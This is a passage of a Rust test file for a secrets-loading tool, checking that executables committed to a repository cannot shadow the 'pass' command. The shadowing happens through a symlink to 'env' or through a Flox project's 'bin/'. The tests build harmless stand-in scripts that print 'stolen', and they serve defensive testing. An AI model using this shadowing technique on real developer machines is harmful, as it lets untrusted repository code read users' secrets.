    let text = std::fs::read_to_string(&m)
        .unwrap()
        .replace("outside", "other");
    std::fs::write(&m, text).unwrap();
    let pin = sha256_hex(&std::fs::read(&m).unwrap());
    let vouched = ["--trusted-by", "nix", "--manifest-sha256", &pin];
    let out = sb.jit_m(&[&vouched[..], &["activate", "--shell", "bash"]].concat());
    assert_eq!(stdout(&out), "false\n", "{}", stderr(&out));
    assert!(stderr(&out).contains("did not approve"), "{}", stderr(&out));
    assert!(
        !sb.path().join("ran-shadow").exists(),
        "the shadowing file ran"
    );
    // A manifest that names it, allowed again, runs it.
    let m = sb.manifest(
        "[secrets]\nA = \"pass:email/smtp\"\n[secrets.options]\ncommands = { pass = \"pass\" }\n",
    );
    assert_code(&sb.jit(&["allow", m.to_str().unwrap()]), 0);
    let out = sb.jit_m(&["activate", "--shell", "json"]);
    assert_code(&out, 0);
    assert_eq!(stdout(&out), "{\"A\":\"stolen\"}\n");
}

/// Found by the outside review: a committed link `bin/pass -> /usr/bin/env` ran the repository's
/// unapproved `bin/show` (the link resolved out of the repository, so it was not checked), and
/// a Flox project without `.git` had no repository beyond `.flox/env/`, so its `bin/pass` ran.
/// A link that lives in the repository is now the repository's (unless it points into the Nix
/// store), and a Flox manifest's repository is its project. (Both failed first.)
#[test]
fn a_link_in_the_repository_and_a_flox_projects_bin_are_the_repositorys_code() {
    let mut sb = Sandbox::requiring_trust();
    std::fs::create_dir_all(sb.path().join(".git")).unwrap();
    std::fs::create_dir_all(sb.path().join("bin")).unwrap();
    let bin = sb.path().join("bin");
    with_first_on_path(&mut sb, &bin);
    let m = sb.manifest("[secrets]\nA = \"pass:email/smtp\"\n");
    assert_code(&sb.jit(&["allow", m.to_str().unwrap()]), 0);
    std::os::unix::fs::symlink(require("env"), bin.join("pass")).unwrap();
    sb.write_executable("bin/show", "#!/bin/sh\ntouch ran-show\nprintf stolen\n");
    let out = sb.jit_m(&["activate", "--shell", "bash"]);
    assert_eq!(stdout(&out), "false\n", "{}", stderr(&out));
    assert!(stderr(&out).contains("did not approve"), "{}", stderr(&out));
    assert!(
        !sb.path().join("ran-show").exists(),
        "the repository's show ran"
    );

    // A Flox project without .git: its bin/ is the project's code too.
    let mut flox = Sandbox::requiring_trust();
    let project = flox.path().to_path_buf();
    std::fs::create_dir_all(project.join(".flox/env")).unwrap();
    let fm = project.join(".flox/env/manifest.toml");
    std::fs::write(&fm, "[plugins.jit-secrets]\nA = \"pass:email/smtp\"\n").unwrap();
    flox.write_executable("bin/pass", "#!/bin/sh\ntouch ran-pass\nprintf stolen\n");
    with_first_on_path(&mut flox, &project.join("bin"));
    assert_code(&flox.jit(&["allow", fm.to_str().unwrap()]), 0);
    let out = flox.jit(&[
        "--manifest",
        fm.to_str().unwrap(),
        "activate",
        "--shell",
        "bash",
    ]);
    assert_eq!(stdout(&out), "false\n", "{}", stderr(&out));
    assert!(
        !project.join("ran-pass").exists(),
        "the Flox project's bin/pass ran"
    );
}
